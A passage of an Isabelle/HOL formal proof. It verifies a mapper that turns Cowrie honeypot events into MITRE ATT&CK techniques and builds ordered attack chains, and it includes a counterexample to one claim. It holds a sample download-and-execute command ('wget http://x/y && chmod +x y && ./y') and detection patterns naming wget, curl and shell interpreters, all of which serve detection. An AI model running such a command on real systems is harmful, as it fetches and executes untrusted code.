  from d(1) have "tactic_id d \<in> tactic_id ` set (technique_details m)" by (rule imageI)
  with ok have "tech_tactic td \<in> tactic_id ` set (technique_details m)" by simp
  with inv have "tech_tactic td \<in> set (tactics m)"
    by (simp add: mapped_inv_def)
  with ok d(1) show ?thesis by (auto simp: list_ex_iff)
qed

lemma lower_append: "lower (a @ b) = lower a @ lower b"
  by (simp add: lower_def)

lemma lower_Cons: "lower (c # s) = lower_char c # lower s"
  by (simp add: lower_def)

lemma lower_command_id: "lower ''cowrie.command.input'' = ''cowrie.command.input''"
  by (simp add: lower_def lower_char_ascii)

lemma lower_wget_input: "lower wget_input = wget_input"
  by (simp add: wget_input_def lower_def lower_char_ascii)

lemma wget_input_search:
  "re_search True (seq [lit ''wget'', One Ws, lit ''http'']) wget_input"
  by (simp add: wget_input_def lower_char_ascii is_space_def)

lemma command_input_search:
  "re_search True (lit ''command.input'') ''cowrie.command.input''"
  by (simp add: lower_char_ascii)

lemma T1105_entry:
  "map_of TECHNIQUE_MAPPINGS ''T1105'' =
     Some \<lparr>tech_name = ''Ingress Tool Transfer'', tech_tactic = ''TA0011'',
           tech_patterns = [seq [lit ''wget'', One Ws, lit ''http''],
                            seq [lit ''curl'', Star Dot, lit ''-o''],
                            seq [lit ''scp'', Star Dot, lit ''download'']]\<rparr>"
  by (simp add: TECHNIQUE_MAPPINGS_def)

lemma T1059_entry:
  "map_of TECHNIQUE_MAPPINGS ''T1059'' =
     Some \<lparr>tech_name = ''Command and Scripting Interpreter'', tech_tactic = ''TA0002'',
           tech_patterns = [lit ''bash'', seq [lit ''sh'', One Ws], lit ''python'', lit ''perl'',
                            lit ''command.input'']\<rparr>"
  by (simp add: TECHNIQUE_MAPPINGS_def)

lemma tactic_names:
  "map_of TACTICS ''TA0011'' = Some ''Command and Control''"
  "map_of TACTICS ''TA0002'' = Some ''Execution''"
  by (simp_all add: TACTICS_def)

text \<open>
  Claim C4 (as amended). For every event whose input is
  \<^verbatim>\<open>wget http://x/y && chmod +x y && ./y\<close>, whatever its other keys, \<^verbatim>\<open>map_event\<close> returns a
  mapping that holds T1105 (Ingress Tool Transfer) under the tactic TA0011. It holds T1059
  exactly when the text of the event holds one of the five patterns of T1059; it does so,
  under the tactic TA0002 (Execution), when the event id is \<^verbatim>\<open>cowrie.command.input\<close>.
\<close>

theorem wget_example_mapping:
  assumes inp: "input e = Some wget_input"
  shows "\<exists>m. map_event e = Inr m \<and>
           ''T1105'' \<in> set (techniques m) \<and> ''TA0011'' \<in> set (tactics m) \<and>
           list_ex (\<lambda>d. technique_id d = ''T1105'' \<and> technique_name d = ''Ingress Tool Transfer'' \<and>
                        tactic_id d = ''TA0011'' \<and> tactic_name d = ''Command and Control'')
                   (technique_details m) \<and>
           (''T1059'' \<in> set (techniques m) \<longleftrightarrow>
              list_ex (\<lambda>p. re_search True p (combined_text e))
                [lit ''bash'', seq [lit ''sh'', One Ws], lit ''python'', lit ''perl'',
                 lit ''command.input'']) \<and>
           (eventid e = Some ''cowrie.command.input'' \<longrightarrow>
              ''T1059'' \<in> set (techniques m) \<and> ''TA0002'' \<in> set (tactics m) \<and>
              list_ex (\<lambda>d. technique_id d = ''T1059'' \<and>
                           technique_name d = ''Command and Scripting Interpreter'' \<and>
                           tactic_id d = ''TA0002'' \<and> tactic_name d = ''Execution'')
                      (technique_details m))"
proof -
  from map_event_returns obtain m where m: "map_event e = Inr m" by blast
  have blob: "combined_text e =
      (lower (get_str (eventid e)) @ '' '') @ wget_input @ ('' '' @ lower (get_str (alert_msg e)))"
    using inp by (simp add: combined_text_def lower_append lower_wget_input lower_Cons lower_char_ascii)
  have s1: "re_search True (seq [lit ''wget'', One Ws, lit ''http'']) (combined_text e)"
    unfolding blob by (rule re_search_context[OF wget_input_search])
  have t1105: "''T1105'' \<in> set (techniques m)"
    unfolding technique_recorded_iff[OF m T1105_entry] using s1 by simp
  from technique_recorded_detail[OF m T1105_entry t1105]
  have d1105: "''TA0011'' \<in> set (tactics m) \<and>
      list_ex (\<lambda>d. technique_id d = ''T1105'' \<and> technique_name d = ''Ingress Tool Transfer'' \<and>
                        tactic_id d = ''TA0011'' \<and> tactic_name d = ''Command and Control'')
                   (technique_details m)"
    by (auto simp: tactic_names list_ex_iff)
  have iff: "''T1059'' \<in> set (techniques m) \<longleftrightarrow>
              list_ex (\<lambda>p. re_search True p (combined_text e))
                [lit ''bash'', seq [lit ''sh'', One Ws], lit ''python'', lit ''perl'',
                 lit ''command.input'']"
    using technique_recorded_iff[OF m T1059_entry] by simp
  have cmd: "''T1059'' \<in> set (techniques m) \<and> ''TA0002'' \<in> set (tactics m) \<and>
              list_ex (\<lambda>d. technique_id d = ''T1059'' \<and>
                           technique_name d = ''Command and Scripting Interpreter'' \<and>
                           tactic_id d = ''TA0002'' \<and> tactic_name d = ''Execution'')
                      (technique_details m)"
    if eid: "eventid e = Some ''cowrie.command.input''"
  proof -
    have blob2: "combined_text e =
        [] @ ''cowrie.command.input'' @ ('' '' @ wget_input @ '' '' @ lower (get_str (alert_msg e)))"
      using inp eid
      by (simp add: combined_text_def lower_append lower_wget_input lower_Cons lower_char_ascii lower_command_id)
    have s2: "re_search True (lit ''command.input'') (combined_text e)"
      unfolding blob2 by (rule re_search_context[OF command_input_search])
    have t1059: "''T1059'' \<in> set (techniques m)"
      unfolding technique_recorded_iff[OF m T1059_entry] using s2 by simp
    from technique_recorded_detail[OF m T1059_entry t1059] t1059
    show ?thesis by (auto simp: tactic_names list_ex_iff)
  qed
  from m t1105 d1105 iff cmd show ?thesis by blast
qed

theorem wget_example_mapping_witness:
  "\<exists>m. map_event wget_command_event = Inr m \<and>
       ''T1105'' \<in> set (techniques m) \<and> ''TA0011'' \<in> set (tactics m) \<and>
       ''T1059'' \<in> set (techniques m) \<and> ''TA0002'' \<in> set (tactics m)"
proof -
  have i: "input wget_command_event = Some wget_input"
    by (simp add: wget_command_event_def wget_event_def empty_event_def)
  have e: "eventid wget_command_event = Some ''cowrie.command.input''"
    by (simp add: wget_command_event_def wget_event_def empty_event_def)
  from wget_example_mapping[OF i] e show ?thesis by blast
qed

text \<open>
  The claim as written fails for the event that has the input and nothing else: the input
  holds none of \<^verbatim>\<open>bash\<close>, \<^verbatim>\<open>sh\s\<close>, \<^verbatim>\<open>python\<close>, \<^verbatim>\<open>perl\<close>, \<^verbatim>\<open>command\.input\<close>, so T1059 and
  TA0002 are not recorded.
\<close>

theorem wget_example_mapping_counterexample:
  "input wget_event = Some ''wget http://x/y && chmod +x y && ./y'' \<and>
   (\<exists>m. map_event wget_event = Inr m \<and> techniques m = [''T1071'', ''T1105''] \<and>
        tactics m = [''TA0011''] \<and>
        ''T1059'' \<notin> set (techniques m) \<and> ''TA0002'' \<notin> set (tactics m))"
  by (simp add: wget_event_mapping) (simp add: wget_event_def wget_input_def empty_event_def)

subsection \<open>The attack chain\<close>

lemma chain_details_inv:
  assumes "chain_inv st"
    and "\<forall>s \<in> set (fst st). step_key s \<le> timestamp_key e"
    and "\<forall>d \<in> set ds. tactic_id d \<in> set (map fst TACTICS)"
  shows "chain_inv (chain_details e ds st) \<and>
         (\<forall>s \<in> set (fst (chain_details e ds st)). step_key s \<le> timestamp_key e) \<and>
         set (map step_timestamp (fst (chain_details e ds st)))
           \<subseteq> insert (timestamp e) (set (map step_timestamp (fst st)))"
  using assms
proof (induction ds arbitrary: st)
  case Nil
  then show ?case by (cases st) auto
next
  case (Cons d ds)
  obtain chain seen where st: "st = (chain, seen)" by (cases st)
  show ?case
  proof (cases "tactic_id d \<in> seen")
    case True
    from Cons.prems(3) have rest: "\<forall>d \<in> set ds. tactic_id d \<in> set (map fst TACTICS)" by simp
    have step: "chain_details e (d # ds) st = chain_details e ds st"
      using True st by simp
    from Cons.IH[OF Cons.prems(1) Cons.prems(2) rest] show ?thesis unfolding step .
  next
    case False
    let ?new = "\<lparr>step_tactic = tactic_name d, step_tactic_id = tactic_id d,
                  step_technique = technique_name d, step_technique_id = technique_id d,
                  step_timestamp = timestamp e, step_evidence = evidence e\<rparr>"
    let ?st' = "(chain @ [?new], insert (tactic_id d) seen)"
    have key: "step_key ?new = timestamp_key e"
      by (simp add: step_key_def timestamp_key_def)
    from Cons.prems(1) st have seen: "set (map step_tactic_id chain) = seen"
      and dist: "distinct (map step_tactic_id chain)"
      and sub: "set (map step_tactic_id chain) \<subseteq> set (map fst TACTICS)"
      and srt: "sorted (map step_key chain)"
      unfolding chain_inv_def by auto
    from Cons.prems(2) st have le: "\<forall>s \<in> set chain. step_key s \<le> timestamp_key e" by simp
    from Cons.prems(3) have dmem: "tactic_id d \<in> set (map fst TACTICS)" by simp
    have srt': "sorted (map step_key (chain @ [?new]))"
      using srt le key by (auto simp: sorted_append)
    have inv': "chain_inv ?st'"
      unfolding chain_inv_def using seen dist sub srt' False dmem by auto
    have le': "\<forall>s \<in> set (fst ?st'). step_key s \<le> timestamp_key e"
      using le key by auto
    from Cons.prems(3) have rest: "\<forall>d \<in> set ds. tactic_id d \<in> set (map fst TACTICS)" by simp
    note ih = Cons.IH[OF inv' le' rest]
    have step: "chain_details e (d # ds) st = chain_details e ds ?st'"
      using False st by simp
    have fst_st: "fst st = chain" using st by simp
    from ih show ?thesis unfolding step fst_st by auto
  qed
qed

lemma mapped_tactics_known:
  assumes "map_event e = Inr m"
  shows "\<forall>d \<in> set (technique_details m). tactic_id d \<in> set (map fst TACTICS)"
proof
  fix d assume "d \<in> set (technique_details m)"
  with map_event_inv[OF assms] have "detail_ok TECHNIQUE_MAPPINGS (combined_text e) d"
    by (simp add: mapped_inv_def list_all_iff)
  then have "map_of TACTICS (tactic_id d) = Some (tactic_name d)"
    unfolding detail_ok_def by blast
  from map_of_SomeD[OF this] show "tactic_id d \<in> set (map fst TACTICS)"
    by (auto intro: rev_image_eqI)
qed

lemma chain_events_inv:
  assumes "sorted (map timestamp_key es)"
    and "chain_inv st"
    and "\<forall>s \<in> set (fst st). \<forall>e \<in> set es. step_key s \<le> timestamp_key e"
  shows "\<exists>st'. chain_events es st = Inr st' \<and> chain_inv st' \<and>
           set (map step_timestamp (fst st'))
             \<subseteq> set (map timestamp es) \<union> set (map step_timestamp (fst st))"
  using assms
proof (induction es arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons e es)
  from map_event_returns obtain m where m: "map_event e = Inr m" by blast
  let ?st1 = "chain_details e (technique_details m) st"
  from Cons.prems(3) have le: "\<forall>s \<in> set (fst st). step_key s \<le> timestamp_key e" by simp
  note d = chain_details_inv[OF Cons.prems(2) le mapped_tactics_known[OF m]]
  from Cons.prems(1) have srt: "sorted (map timestamp_key es)"
    and first: "\<forall>e' \<in> set es. timestamp_key e \<le> timestamp_key e'"
    by simp_all
  have le1: "\<forall>s \<in> set (fst ?st1). \<forall>e' \<in> set es. step_key s \<le> timestamp_key e'"
  proof (intro ballI)
    fix s e' assume "s \<in> set (fst ?st1)" "e' \<in> set es"
    with d first have "step_key s \<le> timestamp_key e" "timestamp_key e \<le> timestamp_key e'"
      by blast+
    then show "step_key s \<le> timestamp_key e'" by (rule order_trans)
  qed
  from d have inv1: "chain_inv ?st1" by blast
  from Cons.IH[OF srt inv1 le1] obtain st' where
    st': "chain_events es ?st1 = Inr st'" "chain_inv st'"
    "set (map step_timestamp (fst st')) \<subseteq> set (map timestamp es) \<union> set (map step_timestamp (fst ?st1))"
    by blast
  from d have "set (map step_timestamp (fst ?st1))
           \<subseteq> insert (timestamp e) (set (map step_timestamp (fst st)))" by blast
  with st'(3) have sub: "set (map step_timestamp (fst st'))
      \<subseteq> set (map timestamp (e # es)) \<union> set (map step_timestamp (fst st))"
    by auto
  have "chain_events (e # es) st = Inr st'" using m st'(1) by simp
  with st'(2) sub show ?case by blast
qed

lemma catalog_tactic_count: "card (set (map fst TACTICS)) = 13"
  by (simp add: TACTICS_def)

lemma catalog_tactics_used:
  "set (map (\<lambda>p. tech_tactic (snd p)) TECHNIQUE_MAPPINGS) = set (map fst TACTICS)"
proof
  show "set (map (\<lambda>p. tech_tactic (snd p)) TECHNIQUE_MAPPINGS) \<subseteq> set (map fst TACTICS)"
    by (simp add: TECHNIQUE_MAPPINGS_def TACTICS_def)
  show "set (map fst TACTICS) \<subseteq> set (map (\<lambda>p. tech_tactic (snd p)) TECHNIQUE_MAPPINGS)"
    by (simp add: TECHNIQUE_MAPPINGS_def TACTICS_def)
qed

lemma sorted_missing_first:
  assumes "sorted (map step_key chain)" and "i < j" and "j < length chain"
    and "step_timestamp (chain ! j) = None"
  shows "step_key (chain ! i) = []"
proof -
  from assms(1,2,3) have "map step_key chain ! i \<le> map step_key chain ! j"
    by (intro sorted_nth_mono) simp_all
  with assms(2,3) have "step_key (chain ! i) \<le> step_key (chain ! j)" by simp
  moreover from assms(4) have "step_key (chain ! j) = []" by (simp add: step_key_def)
  ultimately show ?thesis by simp
qed

text \<open>
  Claim C6. For every list of events \<^verbatim>\<open>get_attack_chain\<close> returns a chain in which no two
  steps share a tactic id; every tactic id is one of the catalog, so the chain is no longer
  than the number of tactics of the catalog, which is 13; the steps stand in the ascending
  order of the time stamps of their events, each step carrying the time stamp of an event
  of the list; and a missing time stamp counts as the empty string, the earliest of all:
  nothing with a non-empty time stamp stands before a step without one.
\<close>

theorem attack_chain_one_step_per_tactic:
  "\<exists>chain. get_attack_chain evs = Inr chain \<and>
      distinct (map step_tactic_id chain) \<and>
      set (map step_tactic_id chain) \<subseteq> set (map fst TACTICS) \<and>
      length chain \<le> card (set (map fst TACTICS)) \<and>
      length chain \<le> 13 \<and>
      sorted (map step_key chain) \<and>
      set (map step_timestamp chain) \<subseteq> set (map timestamp evs) \<and>
      (\<forall>i j. i < j \<and> j < length chain \<and> step_timestamp (chain ! j) = None \<longrightarrow>
             step_timestamp (chain ! i) = None \<or> step_timestamp (chain ! i) = Some [])"
proof -
  let ?es = "sort_key timestamp_key evs"
  have srt: "sorted (map timestamp_key ?es)" by (rule sorted_sort_key)
  have inv0: "chain_inv ([], {})" by (simp add: chain_inv_def)
  have le0: "\<forall>s \<in> set (fst ([] :: chain_step list, {} :: string set)). \<forall>e \<in> set ?es. step_key s \<le> timestamp_key e"
    by simp
  from chain_events_inv[OF srt inv0 le0] obtain st' where
    st': "chain_events ?es ([], {}) = Inr st'" "chain_inv st'"
    "set (map step_timestamp (fst st')) \<subseteq> set (map timestamp ?es) \<union> set (map step_timestamp (fst ([] :: chain_step list, {} :: string set)))"
    by blast
  obtain chain seen where cs: "st' = (chain, seen)" by (cases st')
  from st'(1) cs have g: "get_attack_chain evs = Inr chain"
    by (simp add: get_attack_chain_def)
  from st'(2) cs have dist: "distinct (map step_tactic_id chain)"
    and sub: "set (map step_tactic_id chain) \<subseteq> set (map fst TACTICS)"
    and sorted: "sorted (map step_key chain)"
    unfolding chain_inv_def by auto
  from dist have "length chain = card (set (map step_tactic_id chain))"
    using distinct_card[of "map step_tactic_id chain"] by simp
  also from sub have "\<dots> \<le> card (set (map fst TACTICS))"
    by (intro card_mono) simp_all
  finally have len: "length chain \<le> card (set (map fst TACTICS))" .
  then have len13: "length chain \<le> 13" by (simp only: catalog_tactic_count)
  from st'(3) cs have ts: "set (map step_timestamp chain) \<subseteq> set (map timestamp evs)"
    by simp
  have miss: "\<forall>i j. i < j \<and> j < length chain \<and> step_timestamp (chain ! j) = None \<longrightarrow>
             step_timestamp (chain ! i) = None \<or> step_timestamp (chain ! i) = Some []"
  proof (intro allI impI)
    fix i j assume a: "i < j \<and> j < length chain \<and> step_timestamp (chain ! j) = None"
    then have "step_key (chain ! i) = []"
      using sorted_missing_first[OF sorted, of i j] by simp
    then show "step_timestamp (chain ! i) = None \<or> step_timestamp (chain ! i) = Some []"
      by (cases "step_timestamp (chain ! i)") (simp_all add: step_key_def)
  qed
  from g dist sub len len13 sorted ts miss show ?thesis by blast
qed


lemma empty_event_mapping: "map_event empty_event = Inr empty_mapped"
proof -
  from no_match_blank have "\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS.
      first_matching (tech_patterns td) (combined_text empty_event) = None"
    unfolding blank_text by (auto simp: first_matching_None)
  from map_loop_no_match[OF this] show ?thesis by (simp add: map_event_def)
qed

lemma stamped_wget_mapping: "map_event stamped_wget_event = map_event wget_event"
  by (simp add: map_event_def combined_text_def stamped_wget_event_def)

lemma stamped_sorted:
  "sort_key timestamp_key [stamped_wget_event, empty_event] = [empty_event, stamped_wget_event]"
  by (simp add: timestamp_key_def stamped_wget_event_def wget_event_def empty_event_def)

lemma stamped_chain:
  "get_attack_chain [stamped_wget_event, empty_event] =
     Inr [\<lparr>step_tactic = ''Command and Control'', step_tactic_id = ''TA0011'',
           step_technique = ''Application Layer Protocol'', step_technique_id = ''T1071'',
           step_timestamp = Some ''2024-01-01T00:00:03'', step_evidence = Some wget_input\<rparr>]"
  unfolding get_attack_chain_def stamped_sorted
  by (simp add: empty_event_mapping stamped_wget_mapping wget_event_mapping empty_mapped_def)
     (simp add: stamped_wget_event_def wget_event_def empty_event_def evidence_def wget_input_def)

theorem attack_chain_one_step_per_tactic_witness:
  "\<exists>chain. get_attack_chain [stamped_wget_event, empty_event] = Inr chain \<and>
      map step_tactic_id chain = [''TA0011''] \<and>
      distinct (map step_tactic_id chain) \<and> sorted (map step_key chain) \<and>
      length chain \<le> 13"
proof -
  from attack_chain_one_step_per_tactic[of "[stamped_wget_event, empty_event]"]
  obtain chain where c: "get_attack_chain [stamped_wget_event, empty_event] = Inr chain"
    "distinct (map step_tactic_id chain)" "sorted (map step_key chain)" "length chain \<le> 13"
    by blast
  from c(1) have "map step_tactic_id chain = [''TA0011'']"
    unfolding stamped_chain by auto
  with c show ?thesis by (intro exI[of _ chain]) simp
qed

end
